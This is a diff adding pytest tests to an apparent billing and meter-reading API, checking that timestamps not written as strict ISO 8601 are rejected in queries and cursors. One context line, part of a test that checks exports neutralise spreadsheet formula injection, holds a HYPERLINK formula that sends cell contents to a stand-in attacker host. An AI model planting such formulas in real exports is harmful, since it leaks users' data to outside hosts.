@@ -437,3 +437,48 @@ def test_a_reason_starting_like_a_formula_is_inert_in_nem12(api, migrated_databa
     response = client.get("/billing/nem12?period=2026-02-27/2026-03-01&account=A2", headers=auth(keys["billing"]))
     records = [line.split(",") for line in response.text.strip().split("\r\n")]
     assert records[5][1:] == ["24", "24", "S17", "0", '\'=HYPERLINK("http://evil.example/?"&A1;"see note")']
+
+
+@pytest.mark.parametrize(
+    "written",
+    ["2026-02-14_22:00:00Z", "1771106400", "20260214", "2026-02-14T22.5Z", "2026-02-14x22:00:00Z"],
+    ids=["underscore", "unix_seconds", "compact_date", "fraction_of_hour", "x_separator"],
+)
+@pytest.mark.parametrize("name", ["from", "to", "changed_since"])
+def test_reads_asked_for_with_a_time_not_as_iso_8601_writes_it_are_a_problem(api, name, written):
+    """pydantic read ``2026-02-14_22:00:00Z`` as 22:00 and ``20260214`` as seconds since 1970
+    (1970-08-23): /billing/reads answered for a period no one asked for."""
+    client, keys = api
+    times = {"from": "2026-02-14T22:00:00Z", "to": "2026-02-15T02:00:00Z", "changed_since": "2026-01-01T00:00:00Z"}
+    query = "&".join(f"{k}={written if k == name else v}" for k, v in times.items())
+    body = assert_problem(client.get(f"/billing/reads?account=A1&{query}", headers=auth(keys["billing"])), 422)
+    assert f"'{written}' is no ISO 8601 time" in body["detail"] or "fraction" in body["detail"], body["detail"]
+
+
+@pytest.mark.parametrize(
+    "cursor_ts", ["2026-02-14x22:00:00%2B00:00", "2026-02-14T22.5%2B00:00"], ids=["x_separator", "fraction_of_hour"]
+)
+def test_a_reads_cursor_with_a_time_python_reads_as_another_is_refused(api, cursor_ts):
+    """``fromisoformat`` took any character between date and time and read ``22.5`` as half a
+    second past 22:00: a cursor so written continued the pages from a time no page ended at."""
+    client, keys = api
+    query = f"/billing/reads?account=A1&from=2026-02-14T22:00:00Z&to=2026-02-15T02:00:00Z&cursor={cursor_ts}~B1"
+    body = assert_problem(client.get(query, headers=auth(keys["billing"])), 400)
+    assert body["title"] == "Invalid cursor"
+
+
+@pytest.mark.parametrize("name", ["from", "to", "cursor"])
+def test_a_meter_s_readings_asked_for_with_a_time_not_as_iso_8601_writes_it_are_a_problem(api, name):
+    """``from=2026-02-14_22:00:00Z`` was read as 22:00, ``cursor=1771106400`` as seconds since 1970."""
+    client, keys = api
+    h = auth(keys["reader"])
+    times = {"from": "2026-02-14T22:00:00Z", "to": "2026-02-15T02:00:00Z"}
+    assert client.get(f"/meters/B1/readings?from={times['from']}&to={times['to']}", headers=h).status_code == 200
+    for written in ("2026-02-14_22:00:00Z", "1771106400"):
+        query = "&".join(f"{k}={written if k == name else v}" for k, v in times.items())
+        if name == "cursor":
+            query += f"&cursor={written}"
+        body = assert_problem(client.get(f"/meters/B1/readings?{query}", headers=h), 422)
+        assert f"'{written}' is no ISO 8601 time" in body["detail"], body["detail"]
+    body = assert_problem(client.get("/meters/B1/readings/2026-02-14_22:00:00Z/history", headers=h), 422)
+    assert "is no ISO 8601 time" in body["detail"]
